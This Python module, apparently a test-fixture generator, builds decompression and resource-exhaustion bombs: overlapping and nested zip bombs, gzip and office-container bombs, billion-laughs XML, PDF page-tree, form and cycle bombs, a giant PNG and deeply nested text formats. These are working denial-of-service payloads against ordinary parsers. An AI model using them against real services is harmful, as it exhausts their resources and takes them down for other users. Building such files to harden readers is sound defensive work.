"""Bombs: small files that ask for far more time or memory than their size lets expect.

Each is made on the spot; sizes are what a reader that trusts the file would have to take.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from functools import partial

MIB, GIB = 1 << 20, 1 << 30
DEEP = 10_000


# Compressed data


def deflated(block: bytes, times: int, *, before: bytes = b"", after: bytes = b"") -> bytes:
    """Return raw deflate of `before` + `block` * `times` + `after`, in no time.

    A full flush ends on a byte and forgets what came before, so its output may be repeated.
    """

    def flushed(data: bytes) -> bytes:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)

    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = last.compress(after) + last.flush()
    return flushed(before) + flushed(block) * times + end


def zip_entry(name: str, packed: bytes, size: int, offset: int, crc: int) -> tuple[bytes, bytes]:
    """Return the local header and the line of the directory of a deflated member."""
    fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, crc, len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + fields + name.encode()
    central = b"PK\x01\x02" + struct.pack("<H", 20) + fields
    return local, central + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name.encode()


def zip_end(count: int, directory: bytes, offset: int) -> bytes:
    """Return the end of a zip file."""
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), offset, 0)


def make_zip(members: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return an ordinary zip file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def flat_zip(size: int = 4 * GIB - 2 * MIB, name: str = "zeros.txt") -> bytes:
    """Return one member of 4 GiB in 4 MB: the most that deflate can do."""
    packed = deflated(b"0" * MIB, size // MIB)
    local, directory = zip_entry(name, packed, size, 0, 0)
    return local + packed + directory + zip_end(1, directory, len(local) + len(packed))


def lying_zip(name: str = "zeros.txt", declared: int = 100) -> bytes:
    """Return a member that unpacks to 1 GiB but declares 100 bytes."""
    packed = deflated(b"0" * MIB, 1024)
    local, directory = zip_entry(name, packed, declared, 0, 0)
    return local + packed + directory + zip_end(1, directory, len(local) + len(packed))


def overlapping_zip(count: int = 250) -> bytes:
    """Return 42 kB of zip for 4 GiB: every member takes in the next one's header and data.

    A member's deflate stream starts with a stored block that holds the next local header; the
    rest of it is the next member's own stream (Fifield, A better zip bomb, WOOT 2019).
    """
    kernel = deflated(b"0" * MIB, 16)
    size = 16 * MIB
    streams, locals_, sizes = [kernel], [], [size]
    names = [f"{i:03}.txt" for i in range(count)]
    for i in range(count - 1, -1, -1):
        local, _ = zip_entry(names[i], streams[0], sizes[0], 0, 0)
        locals_.insert(0, local)
        if i:
            quote = struct.pack("<BHH", 0, len(local), 0xFFFF ^ len(local)) + local
            streams.insert(0, quote + streams[0])
            sizes.insert(0, len(local) + sizes[0])
    body, directory = bytearray(), b""
    for i in range(count):
        quoted_by = 5 if i else 0  # the stored block's own header stands before
        offset = len(body) + quoted_by
        directory += zip_entry(names[i], streams[i], sizes[i], offset, 0)[1]
        body += streams[i - 1][:5] + locals_[i] if i else locals_[i]
    body += kernel
    return bytes(body) + directory + zip_end(count, directory, len(body))


def nested_zip(width: int = 16, depth: int = 5) -> bytes:
    """Return zips in zips, 16 in each, five deep, a member of 4 MiB in the innermost: 42.zip."""
    data = make_zip([("zeros.txt", b"0" * (4 * MIB))])
    for _ in range(depth):
        data = make_zip((f"{i}.zip", data) for i in range(width))
    return data


def deep_zip(depth: int = 500) -> bytes:
    """Return a zip in a zip in a zip ..."""
    data = make_zip([("a.txt", b"At the bottom.")])
    for _ in range(depth):
        data = make_zip([("a.zip", data)], zipfile.ZIP_STORED)
    return data


def gzip_bomb() -> bytes:
    """Return 1 GiB of zeros as gzip."""
    head = gzip.compress(b"")[:10]
    return head + deflated(b"0" * MIB, 1024) + struct.pack("<II", 0, GIB & 0xFFFFFFFF)


def tar_gzip_bomb() -> bytes:
    """Return a compressed tar with one member of 2 GiB."""
    info = tarfile.TarInfo("zeros.txt")
    info.size = 2 * GIB - MIB
    header = info.tobuf()
    head = gzip.compress(b"")[:10]
    return head + deflated(b"0" * MIB, 2047, before=header) + struct.pack("<II", 0, 0)


# Office containers

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_LAUGHS = "".join(
    f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' if i else '<!ENTITY l0 "lol">' for i in range(10)
)


def container_bomb(part: str, mimetype: str = "") -> bytes:
    """Return an office container whose main part unpacks to 2 GiB of elements."""
    stored = make_zip([("mimetype", mimetype.encode())], zipfile.ZIP_STORED) if mimetype else b""
    members = stored[: stored.find(b"PK\x01\x02")] if stored else b""
    directory = stored[stored.find(b"PK\x01\x02") : stored.find(b"PK\x05\x06")] if stored else b""
    block = b"<p>0</p>" * (MIB // 8)
    packed = deflated(block, 2047, before=b"<r>", after=b"</r>")
    local, line = zip_entry(part, packed, 2047 * MIB + 7, len(members), 0)
    directory += line
    body = members + local + packed
    return body + directory + zip_end(2 if stored else 1, directory, len(body))


def docx_of(document: str) -> bytes:
    """Return a docx whose main part is this XML."""
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="r1" Type="{relation}" '
        'Target="word/document.xml"/></Relationships>'
    )
    return make_zip(
        [
            ("[Content_Types].xml", _TYPES.encode()),
            ("_rels/.rels", rels.encode()),
            ("word/document.xml", document.encode()),
        ]
    )


def docx_with(doctype: str, words: str) -> bytes:
    """Return a docx with a document type and one paragraph."""
    return docx_of(
        f'<?xml version="1.0"?><!DOCTYPE w:document [{doctype}]><w:document xmlns:w="{_W}">'
        f"<w:body><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:body></w:document>"
    )


def laughing_docx() -> bytes:
    """Return a docx whose paragraph would grow to 3 GB of "lol"."""
    return docx_with(_LAUGHS, "Before. &l9; After.")


def laughing_xml() -> bytes:
    """Return the billion laughs themselves."""
    return f'<?xml version="1.0"?><!DOCTYPE a [{_LAUGHS}]><a>Before. &l9; After.</a>'.encode()


def deep_docx(depth: int = DEEP) -> bytes:
    """Return a docx of tables in tables."""
    table, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    inner = "<w:p><w:r><w:t>Deep.</w:t></w:r></w:p>"
    return docx_of(
        f'<w:document xmlns:w="{_W}"><w:body>{table * depth}{inner}{end * depth}'
        "<w:p><w:r><w:t>After it.</w:t></w:r></w:p></w:body></w:document>"
    )


def giant_sheet() -> bytes:
    """Return an xlsx that says it has 17 billion cells; it has two, in opposite corners."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "first"
    book.active["A2"] = "corner"
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]

    def stretched(name: str, data: bytes) -> bytes:
        if not name.endswith("sheet1.xml"):
            return data
        return (
            data.replace(b"A1:A2", b"A1:XFD1048576")
            .replace(b'r="A2"', b'r="XFD1048576"')
            .replace(b'<row r="2"', b'<row r="1048576"')
        )

    return make_zip((name, stretched(name, data)) for name, data in members)


# PDF


def pdf_of(objects: Sequence[bytes], root: int = 1) -> bytes:
    """Return a PDF of numbered objects."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>"
_SHOW = b"BT /F1 10 Tf 50 700 Td (Words on the page.) Tj ET"


def one_page(content: bytes, resources: bytes, *more: bytes) -> bytes:
    """Return a PDF of one page: its content is object 4, its font 5, others from 6 on."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> " + resources + b" >> >>"
    )
    tree = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
    return pdf_of([_CATALOG, tree, page, content, _FONT, *more])


def many_pages(count: int = 100_000) -> bytes:
    """Return a PDF of 100,000 pages, each an object of its own."""
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(count))
    tree = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids)
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>"
    )
    return pdf_of([_CATALOG, tree, stream(_SHOW), _FONT, *[page] * count])


def page_bomb() -> bytes:
    """Return a PDF whose page tree names one page a billion times: ten, nine levels deep."""
    levels = [
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (10 ** (9 - i), b"%d 0 R " % (6 + i) * 10)
        for i in range(9)
    ]
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>"
    )
    tree = b"<< /Type /Pages /Count 1000000000 /Kids [6 0 R] >>"
    return pdf_of([_CATALOG, tree, stream(_SHOW), _FONT, b"null", *levels, page])


def cyclic_tree() -> bytes:
    """Return a PDF whose page tree holds itself."""
    tree = b"<< /Type /Pages /Count 2 /Kids [3 0 R 2 0 R] >>"
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return pdf_of([_CATALOG, tree, page, stream(_SHOW), _FONT])


def cyclic_forms() -> bytes:
    """Return a PDF whose page shows a form that shows another that shows the first, twice each."""

    def form(other: int) -> bytes:
        return stream(
            _SHOW + b" /X Do /X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << "
            b"/Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % other,
        )

    return one_page(stream(_SHOW + b" /X Do"), b"/XObject << /X 6 0 R >>", form(7), form(6))


def form_bomb() -> bytes:
    """Return a PDF whose page shows text a billion times: forms that show ten others."""
    forms = [
        stream(
            b"/X Do " * 10 if i < 9 else _SHOW,
            b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << "
            b"/Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % (7 + i),
        )
        for i in range(10)
    ]
    return one_page(stream(b"/X Do"), b"/XObject << /X 6 0 R >>", *forms)


def cyclic_type3() -> bytes:
    """Return a PDF with a font whose glyph is drawn in that font."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] "
        b"/FirstChar 97 /LastChar 97 /Widths [1] /CharProcs << /a 7 0 R >> "
        b"/Encoding << /Type /Encoding /Differences [97 /a] >> "
        b"/Resources << /Font << /T 6 0 R >> >> >>"
    )
    glyph = stream(b"1 0 d0 BT /T 1 Tf (a) Tj ET")
    content = stream(_SHOW + b" BT /T 10 Tf 50 600 Td (a) Tj ET")
    # The page knows the font through its resources' second name.
    data = one_page(content, b"", font, glyph)
    return data.replace(b"/F1 5 0 R >> ", b"/F1 5 0 R /T 6 0 R >> ", 1)


def cyclic_outline() -> bytes:
    """Return a PDF whose outline comes after itself and holds itself."""
    item = b"<< /Title (Again) /Parent 6 0 R /Next 7 0 R /First 6 0 R /Dest [3 0 R /Fit] >>"
    root = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>"
    data = one_page(stream(_SHOW), b"", root, item)
    # The catalog comes first; the table of offsets is found again by any reader.
    return data.replace(b"/Pages 2 0 R >>", b"/Pages 2 0 R /Outlines 6 0 R >>", 1)


def stream_bomb() -> bytes:
    """Return a PDF whose page content unpacks to 1 GiB, by two filters one after the other."""
    inner = zlib.compress(b"", 9)[:2] + deflated(b" " * MIB, 1024, after=_SHOW)
    return one_page(stream(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]"), b"")


# Pictures


def giant_png(side: int = 50_000) -> bytes:
    """Return a white PNG of 50,000 x 50,000 pixels, one bit each: 2.5 billion when unpacked."""
    row = b"\x00" + b"\xff" * (side // 8)
    adler, rows_a_block = 1, 100
    for _ in range(side // rows_a_block):
        adler = zlib.adler32(row * rows_a_block, adler)
    data = b"\x78\xda" + deflated(row * rows_a_block, side // rows_a_block)

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", data + struct.pack(">I", adler))
        + chunk(b"IEND", b"")
    )


# Nesting in text


def deep_mail(depth: int = DEEP) -> bytes:
    """Return a mail of parts within parts."""
    head = "From: a@example.org\nSubject: Deep\nMIME-Version: 1.0\n"
    opens = "".join(
        f"Content-Type: multipart/mixed; boundary=b{i}\n\n--b{i}\n" for i in range(depth)
    )
    return f"{head}{opens}Content-Type: text/plain\n\nAt the bottom.\n".encode()


def forwarded_mail(depth: int = 1000) -> bytes:
    """Return a mail in a mail in a mail ..."""
    head = "From: a@example.org\nSubject: Forwarded\nMIME-Version: 1.0\n"
    return (
        f"{head}Content-Type: message/rfc822\n\n" * depth + f"{head}\nAt the bottom.\n"
    ).encode()


BOMBS: dict[str, Callable[[], bytes]] = {
    "flat.zip": flat_zip,
    "lying.zip": lying_zip,
    "overlapping.zip": overlapping_zip,
    "nested.zip": nested_zip,
    "deep.zip": deep_zip,
    "bomb.gz": gzip_bomb,
    "bomb.tar.gz": tar_gzip_bomb,
    "bomb.docx": partial(container_bomb, "word/document.xml"),
    "bomb.pptx": partial(container_bomb, "ppt/presentation.xml"),
    "bomb.xlsx": partial(container_bomb, "xl/workbook.xml"),
    "bomb.odt": partial(container_bomb, "content.xml", "application/vnd.oasis.opendocument.text"),
    "bomb.ods": partial(
        container_bomb, "content.xml", "application/vnd.oasis.opendocument.spreadsheet"
    ),
    "bomb.epub": partial(container_bomb, "META-INF/container.xml", "application/epub+zip"),
    "lying.docx": partial(lying_zip, "word/document.xml"),
    "laughs.docx": laughing_docx,
    "deep.docx": deep_docx,
    "giant.xlsx": giant_sheet,
    "laughs.xml": laughing_xml,
    "deep.xml": lambda: b"<a>" * DEEP + b"Deep." + b"</a>" * DEEP,
    "deep.html": lambda: b"<html><body>" + b"<div>" * DEEP + b"Deep." + b"</div>" * DEEP,
    "tables.html": lambda: b"<table><tr><td>" * DEEP + b"Deep.",
    "lists.html": lambda: b"<ul><li>" * DEEP + b"Deep.",
    "deep.json": lambda: b"[" * DEEP + b'"Deep."' + b"]" * DEEP,
    "objects.json": lambda: b'{"a":' * DEEP + b'"Deep."' + b"}" * DEEP,
    "deep.jsonl": lambda: (b'{"a":' * DEEP + b'"Deep."' + b"}" * DEEP + b"\n") * 2,
    "deep.ipynb": lambda: b'{"cells":' + b"[" * DEEP + b"]" * DEEP + b"}",
    "deep.rtf": lambda: b"{\\rtf1 " + b"{\\b " * DEEP + b"Deep." + b"}" * DEEP + b"}",
    "quotes.md": lambda: b">" * DEEP + b" Deep.\n\n" + b"[" * DEEP + b"x" + b"](y)" * DEEP,
    "groups.tex": lambda: b"\\textbf{" * DEEP + b"Deep." + b"}" * DEEP,
    "deep.eml": deep_mail,
    "forwarded.eml": forwarded_mail,
    "field.csv": lambda: b"name,value\nlong," + b"x" * (20 * MIB) + b"\nshort,1\n",
    "quote.csv": lambda: b'name,value\n"never closed,' + b"1\n2," * (3 * MIB // 4),
    "columns.csv": lambda: b",".join([b"a"] * 500_000) + b"\n" + b",".join([b"1"] * 500_000),
    "pages.pdf": many_pages,
    "page_bomb.pdf": page_bomb,
    "cyclic_tree.pdf": cyclic_tree,
    "cyclic_forms.pdf": cyclic_forms,
    "cyclic_type3.pdf": cyclic_type3,
    "cyclic_outline.pdf": cyclic_outline,
    "form_bomb.pdf": form_bomb,
    "stream_bomb.pdf": stream_bomb,
    "giant.png": giant_png,
}
"""File name -> what makes it."""
